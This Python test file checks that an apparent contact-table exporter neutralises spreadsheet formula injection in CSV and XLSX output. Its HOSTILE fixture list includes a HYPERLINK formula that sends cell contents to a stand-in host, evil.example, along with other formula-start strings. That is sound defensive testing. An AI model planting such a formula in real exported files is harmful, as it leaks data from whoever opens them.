"""Tables as CSV and XLSX: read back, with formulas neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from weakties.core.tables_out import csv_bytes, neutralise, table_bytes, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+31 6 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1+1",
]
ROWS = [
    ["Name", "Company", "Ties", "Since"],
    ["Anne de Vries", "Stripe", 12, dt.date(2024, 5, 1)],
    *[[h, "Acme", -1, None] for h in HOSTILE],
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_get_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Jansen", "a=b", "", "Zoë O'Neill", 3, -3, 2.5, None])
def test_plain_values_stay(value):
    assert neutralise(value) == value


def test_csv_reads_back_with_every_hostile_cell_quoted_as_text():
    data = csv_bytes(ROWS)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 with a BOM
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Name", "Company", "Ties", "Since"]
    assert rows[1] == ["Anne de Vries", "Stripe", "12", "2024-05-01"]
    assert [r[0] for r in rows[2:]] == ["'" + h for h in HOSTILE]
    assert [r[2] for r in rows[2:]] == ["-1"] * len(HOSTILE)  # numbers are not text
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r[:2]
    )


def test_xlsx_reads_back_with_no_formula_cells():
    book = load_workbook(io.BytesIO(xlsx_bytes(ROWS, title="Colleagues: [all]")))
    sheet = book.active
    assert sheet.title == "Colleagues all"
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == ["Name", "Company", "Ties", "Since"]
    assert values[1][:3] == ["Anne de Vries", "Stripe", 12]
    assert values[1][3].date() == dt.date(2024, 5, 1)
    # (XML reads a carriage return as a line feed)
    assert [r[0] for r in values[2:]] == ["'" + h.replace("\r", "\n") for h in HOSTILE]
    types = {c.data_type for row in sheet.iter_rows() for c in row}
    assert "f" not in types  # no cell is a formula
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"


def test_xlsx_drops_control_characters_it_cannot_store():
    book = load_workbook(io.BytesIO(xlsx_bytes([["a\x00b\x07c"]])))
    assert book.active["A1"].value == "abc"


def test_table_bytes_knows_two_formats():
    assert table_bytes([["x"]], "csv") == csv_bytes([["x"]])
    assert table_bytes([["x"]], "xlsx")[:2] == b"PK"  # a zip
    with pytest.raises(ValueError):
        table_bytes([["x"]], "ods")
